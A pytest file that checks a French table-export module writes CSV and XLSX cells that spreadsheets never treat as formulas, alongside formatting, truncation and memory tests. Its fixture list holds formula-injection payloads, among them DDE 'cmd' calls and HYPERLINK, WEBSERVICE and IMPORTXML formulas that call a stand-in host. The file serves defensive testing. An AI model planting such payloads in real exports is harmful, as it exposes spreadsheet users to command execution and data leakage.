"""What leaves for a spreadsheet: texts that no spreadsheet obeys."""

import csv
import datetime
import io
import itertools
import tracemalloc
import zipfile

import openpyxl
import pytest

from erbm import tables
from erbm.tables import Euros, Table

COMMANDS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"ici")',
    '=WEBSERVICE("http://x.example")',
    '=IMPORTXML("http://x.example","//a")',
    "=DDE(server;file;item;mode)",
    "=2+5+cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "|cmd",
    "%0A=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
]
LEADS = [
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\xa0",
    "\u202f",
    "\u2009",
    "\u200b",
    "\u200e",
    "\u2060",
    "\u3000",
    "\ufeff",
    "\xad",
    "\v",
    "\f",
    "\x85",
    "\u2028",
    "\x01",
    "'",
    '"',
    " \t\xa0",
    "texte\n",
    "texte\r",
    "texte\r\n \t",
    "texte\u2028",
]
PAYLOADS = COMMANDS + [f"{lead}=1+1" for lead in LEADS]
CELLS = ["\tx", "\rx", "\nx", *PAYLOADS]
STARTS = ("=", "+", "-", "@", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def as_csv(*rows, head=("Colonne",)):
    return "".join(tables.csv_lines(Table("T", head, rows)))


def read_csv(text):
    return list(
        csv.reader(
            io.StringIO(text.removeprefix(tables.BOM), newline=""), delimiter=";"
        )
    )


def as_xlsx(*rows, head=("Colonne",)):
    file = io.BytesIO()
    tables.write_xlsx([Table("T", head, rows)], file)
    return file


def harmless(text):
    """Tell whether no line of a text begins as a formula, whatever leads up to it."""
    invisible = "".join(map(chr, range(33))) + "\x7f\x85\xa0\xad\u180e\u3000\ufeff"
    invisible += "".join(map(chr, (*range(0x2000, 0x2010), *range(0x2028, 0x2030))))
    invisible += "".join(map(chr, range(0x205F, 0x2070))) + '"'
    lines = text.splitlines() or [""]
    return not any(line.lstrip(invisible).startswith(STARTS) for line in lines)


@pytest.mark.parametrize("said", CELLS)
def test_no_csv_cell_is_a_formula(said):
    text = as_csv([said])

    [_, [cell]] = read_csv(text)
    assert harmless(cell)
    assert cell[0] not in "\t\r\n"
    assert cell.replace("'", "") == said.replace("'", "").replace("\0", "\ufffd")


@pytest.mark.parametrize("said", CELLS)
@pytest.mark.parametrize("before", ["x;", "x,", "x\t", 'x"', 'x";', 'x",'])
def test_no_cell_can_be_left(before, said):
    """Whatever the reader takes for the end of a cell, all of them are quoted."""
    [_, row] = read_csv(as_csv([before + said, "y"], head=["A", "B"]))

    assert len(row) == 2
    assert row[1] == "y"


@pytest.mark.parametrize("said", CELLS)
def test_every_xlsx_text_is_one_and_stays_one(said):
    file = as_xlsx([said])

    cell = openpyxl.load_workbook(file).active["A2"]
    assert cell.data_type in {"s", "inlineStr"}
    assert cell.quotePrefix
    sheet = zipfile.ZipFile(file).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    kept = openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("\ufffd", said)
    assert cell.value == kept.replace("\r\n", "\n").replace("\r", "\n")


def test_there_are_payloads_enough():
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("said", ["", "Cité 9", "– rien", "1 000", "a = b", "l’été"])
def test_other_texts_are_left_as_they_are(said):
    assert tables.plain(said) == said


def test_values_are_written_as_a_french_spreadsheet_reads_them():
    at = datetime.datetime(2026, 11, 24, 5, 2, tzinfo=datetime.UTC)

    text = as_csv([Euros(-123456), 12, at, at.date(), None, "Été"], head="ABCDEF")

    assert text.startswith('\ufeff"A";"B"')
    assert text.endswith('"-1234,56";"12";"24/11/2026 06:02";"24/11/2026";"";"Été"\r\n')


def test_values_of_a_workbook_are_numbers_and_days():
    at = datetime.datetime(2026, 11, 24, 5, 2, tzinfo=datetime.UTC)

    sheet = openpyxl.load_workbook(as_xlsx([Euros(-123456), 12, at, at.date()])).active

    amount, number, moment, day = sheet[2]
    assert float(amount.value) == -1234.56
    assert number.value == 12
    assert moment.value == datetime.datetime(2026, 11, 24, 6, 2)  # noqa: DTZ001
    assert day.number_format == "DD/MM/YYYY"


def test_a_text_too_long_for_a_cell_says_that_it_was_cut():
    sheet = openpyxl.load_workbook(as_xlsx(["x" * 40_000])).active

    assert len(sheet["A2"].value) == tables.LONGEST
    assert sheet["A2"].value.endswith("[…]")


def test_a_table_without_end_stops_and_says_so(monkeypatch):
    monkeypatch.setattr(tables, "MOST_ROWS", 3)

    rows = read_csv(
        "".join(tables.csv_lines(Table("T", ["A"], itertools.repeat(["x"]))))
    )

    assert rows[1:-1] == [["x"]] * 3
    assert "arrêté" in rows[-1][0]


def test_a_long_table_is_not_kept_in_memory(tmp_path):
    rows = ([f"R-2026-{n:05}", "x" * 200] for n in range(20_000))
    tracemalloc.start()
    try:
        for _ in tables.csv_lines(Table("T", ["A", "B"], rows)):
            pass
        assert tracemalloc.get_traced_memory()[1] < 1_000_000
    finally:
        tracemalloc.stop()
